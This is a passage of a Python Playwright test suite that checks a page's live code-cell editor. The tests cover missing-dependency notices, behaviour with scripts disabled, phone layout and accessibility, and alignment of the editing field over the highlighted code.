            f"**/{PAGE}", lambda route: route.fulfill(body=marked, content_type="text/html")
        )
        page.goto(address + PAGE)
        desk = Desk(page)
        assert "needs PyTorch" in desk.cell(2).locator(".cp-no-live").inner_text()
        assert "more than a browser" in desk.cell(3).locator(".cp-no-live").inner_text()
        assert not desk.cell(2).locator("button[aria-label^='Run']").count()
        assert desk.button("Run", 1).is_visible()
        assert not seen.complaints


def test_without_scripts_there_are_no_buttons(address: str, browser: Browser) -> None:
    with visiting(browser, address, java_script_enabled=False) as (page, _):
        page.goto(address + PAGE)
        assert desk_text(page) == 0


def desk_text(page: Page) -> int:
    """How many buttons of live cells the page has."""
    return page.locator(".cp-run, .cp-run-head").count()


@pytest.mark.parametrize("scheme", SCHEMES)
def test_the_open_editor_fits_a_phone_and_is_accessible(
    address: str, browser: Browser, axe: str, scheme: str
) -> None:
    with visiting(browser, address, viewport=PHONE, color_scheme=scheme) as (page, _):
        page.goto(address + PAGE)
        desk = Desk(page)
        for number in (1, FREE):
            desk.edit(number, "x = 'a long line of text that is wider than a phone'  # and more\n1")
        page.locator(".cp-run-head summary").click()
        assert not scrolls_sideways(page)
        assert not axe_findings(page, axe, within="div.cell:has(textarea), .cp-run-head")


def test_the_field_lies_exactly_over_the_colored_code(address: str, browser: Browser) -> None:
    with visiting(browser, address, viewport=PHONE) as (page, _):
        page.goto(address + PAGE)
        desk = Desk(page)
        code = "\n".join(f"line_{i} = {'x' * 3 * i!r}  # words" for i in range(30))
        desk.edit(FREE, code)
        sizes = desk.cell(FREE).evaluate(
            """e => [e.querySelector("pre"), e.querySelector("textarea")].map(box => {
              const style = getComputedStyle(box);
              return [style.fontSize, style.lineHeight, style.fontFamily, style.paddingLeft,
                      style.paddingTop, style.letterSpacing, style.tabSize,
                      JSON.stringify(box.getBoundingClientRect())];
            })"""
        )
        assert sizes[0] == sizes[1]
        field = desk.field(FREE)
        field.press("Control+End")
        assert field.evaluate("e => e.scrollHeight <= e.clientHeight"), "no line is hidden"
        lefts = "e => [e.querySelector('pre').scrollLeft, e.querySelector('textarea').scrollLeft]"
        page.wait_for_timeout(50)
        left = desk.cell(FREE).evaluate(lefts)
        assert left[0] == left[1] > 0
